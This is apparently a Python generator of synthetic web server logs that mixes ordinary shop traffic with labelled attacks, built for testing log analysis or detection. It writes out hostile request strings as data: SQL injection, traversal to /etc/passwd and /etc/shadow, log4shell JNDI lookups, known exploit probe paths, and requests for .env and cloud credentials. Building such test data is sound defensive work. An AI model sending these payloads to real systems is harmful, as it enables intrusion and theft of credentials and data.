"""A made-up web server's traffic: ordinary visitors, harmless oddities, and attackers by name.

Every line is our own invention. `ordinary` yields a shop's traffic in the order of time; each
attack is a function that returns its lines and the addresses that are guilty of them.
"""

import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from typing import NamedTuple

START = 1_700_000_000  # 2023-11-14, 22:13:20 UTC
DAY = 86_400
BROWSERS = [
    f"Mozilla/5.0 (X11; Linux x86_64; rv:{number}.0) Gecko/20100101 Firefox/{number}.0"
    for number in range(90, 130)
]
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SITE = "https://shop.example"
# What people really search for, and what looks like an attack and is none.
SEARCHES = (
    "red+shoes", "it%27s+a+gift", "union+select+committee", "1+or+2+seats", "size+%3C+42",
    "50%25+off", "caf%C3%A9", "select+comfort+from+europe", "drop+table+lamp", "%E9%9E%8B", "a%26b",
    "rock+%27n%27+roll", "shell+necklace", "passwd", "echo+dot", "id+card+holder", "C%23+book",
    "10%22+pan", "php+in+action", "sleep+mask+(blue)", "order+by+phone", "wget+manual",
    "script+font", "eval+kit", "cat+food",
)  # fmt: skip


class Line(NamedTuple):
    """One request, before it is written."""

    time: float
    address: str
    method: str
    target: str
    status: int
    size: int
    referrer: str
    agent: str

    def text(self) -> str:
        """Write the line in the combined format."""
        when = datetime.fromtimestamp(self.time, UTC)
        return (
            f"{self.address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "
            f'"{self.method} {self.target} HTTP/1.1" {self.status} {self.size} '
            f'"{self.referrer or "-"}" "{self.agent or "-"}"'
        )


class Attack(NamedTuple):
    """The lines of one attack, who is guilty, and whether it worked."""

    lines: list[Line]
    addresses: set[str]
    worked: bool = False
    path: str = ""


def addresses(dice: random.Random, count: int) -> list[str]:
    """Return addresses of visitors: one in ten has IPv6."""
    found: set[str] = set()
    while len(found) < count:
        if dice.random() < 0.1:
            found.add(f"2001:db8:{dice.randint(1, 0xFFFF):x}::{dice.randint(1, 0xFFFF):x}")
        else:
            found.add(f"{dice.randint(11, 99)}.{dice.randint(0, 255)}.{dice.randint(0, 255)}.7")
    return sorted(found)


def ordinary(
    dice: random.Random, visitors: list[str], days: float = 3.0, visits: int = 3000
) -> Iterator[Line]:
    """Yield the visits of a shop, in about the order of time, and what else is harmless."""
    agents = {visitor: dice.choice(BROWSERS) for visitor in visitors}
    step = days * DAY / visits
    for number in range(visits):
        time = START + number * step
        visitor = (
            visitors[number % len(visitors)] if number < len(visitors) else dice.choice(visitors)
        )
        yield from _visit(dice, time, visitor, agents[visitor])
        yield from _machines(dice, time, step)


def _visit(dice: random.Random, time: float, visitor: str, agent: str) -> Iterator[Line]:
    def line(
        target: str, size: int, method: str = "GET", status: int = 200, page: str = "/"
    ) -> Line:
        nonlocal time
        time += dice.uniform(0, 2)
        return Line(time, visitor, method, target, status, size, SITE + page, agent)

    yield line("/", dice.randint(5000, 5200))
    for asset in ("/style.css", "/app.js", "/logo.png"):
        yield line(asset, len(asset) * 1000)
    if dice.random() < 0.05:
        yield line("/favicon.ico", 196, status=404)
    for _ in range(dice.randint(1, 5)):
        time += dice.uniform(3, 60)
        article = f"/product/{dice.randint(1, 900)}"
        yield line(article, dice.randint(7000, 9500))
        yield line(f"/img{article}.jpg", dice.randint(20000, 60000), page=article)
    chance = dice.random()
    if chance < 0.3:
        yield line(f"/search.php?q={dice.choice(SEARCHES)}", dice.randint(3000, 9000))
    elif chance < 0.4:
        yield from _login(dice, line)
    elif chance < 0.43:
        name = f"{dice.randint(1, 9999)}.jpg"
        yield line("/upload.php", 0, "POST", 302, "/account.php")
        yield line(f"/uploads/{name}", dice.randint(20000, 90000), page="/account.php")
    elif chance < 0.46:
        yield line("/download.php?file=catalogue.pdf", 2_400_000)
    elif chance < 0.48:
        yield line(f"/old/page-{dice.randint(1, 30)}.html", 196, status=404)


def _login(dice: random.Random, line: Callable[..., Line]) -> Iterator[Line]:
    yield line("/login.php", 2100)
    for _ in range(dice.choice((0, 0, 0, 1, 1, 2, 4))):
        yield line("/login.php", 2160, "POST", 200, "/login.php")
    yield line("/login.php", 0, "POST", 302, "/login.php")
    yield line("/account.php", dice.randint(4000, 4400), page="/login.php")
    for _ in range(dice.randint(0, 25)):
        yield line("/ajax.php", dice.randint(60, 90), "POST", 200, "/account.php")


def _machines(dice: random.Random, time: float, step: float) -> Iterator[Line]:
    """Yield a monitor, a scheduled call, a payment service's calls, feeds and a search engine."""
    if step < 60 or dice.random() < step / 60:
        yield Line(time, "192.0.2.10", "GET", "/health", 200, 2, "", "Zabbix 6.0")
    if dice.random() < step / 300:
        yield Line(time, "127.0.0.1", "GET", "/cron.php?key=a1b2", 200, 0, "", "curl/7.88")
    if dice.random() < step / 600:
        address = f"192.0.2.{dice.randint(100, 103)}"
        yield Line(time, address, "POST", "/payment/notify.php", 200, 2, "", "Payments/1.0")
    if dice.random() < step / 120:
        address = f"10.9.{dice.randint(0, 9)}.{dice.randint(1, 50)}"
        yield Line(time, address, "GET", "/feed.xml", 304, 0, "", "FeedReader/3")
    if dice.random() < step / 60:
        target = dice.choice(
            (f"/product/{dice.randint(1, 900)}",) * 4 + (f"/gone/{dice.randint(1, 400)}",)
        )
        status = 404 if target.startswith("/gone") else 200
        yield Line(time, "192.0.2.66", "GET", target, status, 7000, "", GOOGLE)
    if dice.random() < step / 3600:
        yield Line(time, "192.0.2.66", "GET", "/robots.txt", 200, 60, "", GOOGLE)


def scanner(dice: random.Random, at: float) -> Attack:
    """Ask for many things that are not there, fast."""
    agent = BROWSERS[0]
    lines = [
        Line(
            at + n * 0.2,
            "203.0.113.5",
            "GET",
            f"/{dice.randbytes(3).hex()}.php",
            404,
            196,
            "",
            agent,
        )
        for n in range(200)
    ]
    return Attack(lines, {"203.0.113.5"})


def slow_scanner(dice: random.Random, at: float) -> Attack:
    """Ask for things that are not there, with many names and long pauses."""
    places = ["/admin", "/phpmyadmin", "/backup", "/test", "/old", "/dev", "/config", "/manager"]
    lines = [
        Line(
            at + n * 190, "203.0.113.6", "GET", f"{dice.choice(places)}/{n}/", 404, 196, "",
            dice.choice(BROWSERS),
        )
        for n in range(60)
    ]  # fmt: skip
    return Attack(lines, {"203.0.113.6"})


def probes(_: random.Random, at: float) -> Attack:
    """Try known exploits of software that is not there."""
    targets = (
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/_ignition/execute-solution",
        "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array",
    )  # fmt: skip
    lines = [
        Line(at + n * 3, "203.0.113.7", "GET", one, 404, 196, "", "Mozilla/5.0 zgrab/0.x")
        for n, one in enumerate(targets)
    ]
    return Attack(lines, {"203.0.113.7"})


def guessing(_: random.Random, at: float) -> Attack:
    """Guess a password at the login page until one is right, then use it."""
    who, agent = "203.0.113.8", "python-requests/2.31"
    lines = [
        Line(at + n * 0.7, who, "POST", "/login.php", 200, 2160, "", agent) for n in range(150)
    ]
    end = lines[-1].time
    lines.append(Line(end + 1, who, "POST", "/login.php", 302, 0, "", agent))
    lines += [Line(end + 2 + n, who, "GET", "/account.php", 200, 4100, "", agent) for n in range(3)]
    return Attack(lines, {who}, worked=True)


def stuffing(dice: random.Random, at: float) -> Attack:
    """Try stolen passwords from many addresses, few each."""
    who = {f"198.51.100.{n}" for n in range(1, 120)}
    lines = [
        Line(
            at + dice.uniform(0, 1800),
            one,
            "POST",
            "/login.php",
            200,
            2160,
            "",
            dice.choice(BROWSERS),
        )
        for one in sorted(who)
        for _ in range(3)
    ]
    return Attack(lines, who)


def injection(_: random.Random, at: float) -> Attack:
    """Take a table out through a search, after some tries."""
    who, agent = "203.0.113.20", "Mozilla/5.0"
    tries = (
        ("%27+order+by+4--+-", 3400), ("%27+union+select+null,null--+-", 3400),
        ("%27+union+all+select+user,password+from+users--+-", 48_211),
        ("%27/**/union/**/select/**/1,load_file(0x2f)--+-", 61_050),
    )  # fmt: skip
    lines = [
        Line(at + n * 20, who, "GET", f"/search.php?q=x{text}", 200, size, "", agent)
        for n, (text, size) in enumerate(tries)
    ]
    return Attack(lines, {who}, worked=True, path="/search.php")


def traversal(_: random.Random, at: float) -> Attack:
    """Read a system file through a download, percent-encoded twice."""
    who = "203.0.113.21"
    targets = ("..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fshadow")
    lines = [
        Line(at, who, "GET", f"/download.php?file={targets[0]}", 200, 1874, "", "curl/7.88"),
        Line(at + 9, who, "GET", f"/download.php?file={targets[1]}", 500, 0, "", "curl/7.88"),
    ]
    return Attack(lines, {who}, worked=True, path="/download.php")


def lookup(_: random.Random, at: float) -> Attack:
    """Send log4shell's lookups in headers, which nothing here understands."""
    text = "${jndi:ldap://198.51.100.200/a}"
    lines = [
        Line(at, "203.0.113.22", "GET", "/", 200, 5100, text, text),
        Line(
            at + 1,
            "203.0.113.22",
            "GET",
            "/login.php",
            200,
            2100,
            "",
            "${${lower:j}ndi:ldap://x/a}",
        ),
    ]
    return Attack(lines, {"203.0.113.22"})


def shell(dice: random.Random, at: float) -> Attack:
    """Upload a script, and send it commands."""
    who, agent = "203.0.113.30", "Mozilla/5.0 (Windows NT 10.0)"
    lines = [
        Line(at, who, "GET", "/upload.php", 200, 900, "", agent),
        Line(at + 5, who, "POST", "/upload.php", 302, 0, "", agent),
    ]
    lines += [
        Line(
            at + 20 + n * 30, who, "POST", "/uploads/a1.php", 200, dice.randint(5, 4000), "", agent
        )
        for n in range(12)
    ]
    return Attack(lines, {who}, worked=True, path="/uploads/a1.php")


def swarm(dice: random.Random, at: float) -> Attack:
    """Hammer one file from many addresses."""
    who = {f"198.18.{n // 250}.{n % 250 + 1}" for n in range(300)}
    lines = [
        Line(at + dice.uniform(0, 900), one, "POST", "/xmlrpc.php", 200, 403, "", "Mozilla/5.0")
        for one in sorted(who)
        for _ in range(8)
    ]
    return Attack(lines, who)


def flood(dice: random.Random, at: float) -> Attack:
    """Ask for the most expensive page as fast as it goes."""
    who = "203.0.113.40"
    lines = [
        Line(
            at + n / 50,
            who,
            "GET",
            f"/search.php?q={dice.randint(0, 10**9)}",
            200,
            4000,
            "",
            BROWSERS[3],
        )
        for n in range(3000)
    ]
    return Attack(lines, {who})


def secrets(_: random.Random, at: float) -> Attack:
    """Look for what should not be there, and get one of them."""
    who = "203.0.113.41"
    tries = (
        ("/.git/config", 404),
        ("/.env", 200),
        ("/backup.zip", 404),
        ("/.aws/credentials", 404),
    )
    lines = [
        Line(at + n, who, "GET", one, status, 412 if status == 200 else 196, "", "")
        for n, (one, status) in enumerate(tries)
    ]
    return Attack(lines, {who}, worked=True, path="/.env")


def leak(_: random.Random, at: float) -> Attack:
    """Carry a whole database away."""
    who = "203.0.113.42"
    lines = [
        Line(at + n * 60, who, "GET", f"/export.php?table={n}", 200, 90_000_000, "", BROWSERS[9])
        for n in range(6)
    ]
    return Attack(lines, {who}, worked=True, path="/export.php")


ATTACKS = (
    scanner, slow_scanner, probes, guessing, stuffing, injection, traversal, lookup, shell, swarm,
    flood, secrets, leak,
)  # fmt: skip


def mixed(
    seed: int,
    visitors: int = 600,
    visits: int = 3000,
    attacks: tuple[Callable[..., Attack], ...] = ATTACKS,
) -> tuple[list[Line], list[Attack]]:
    """Return ordinary traffic of three days with attacks on the last of them, by time."""
    dice = random.Random(seed)
    lines = list(ordinary(dice, addresses(dice, visitors), 3.0, visits))
    made = [one(dice, START + 2 * DAY + 3600 * (1 + n)) for n, one in enumerate(attacks)]
    for one in made:
        lines += one.lines
    return sorted(lines), made
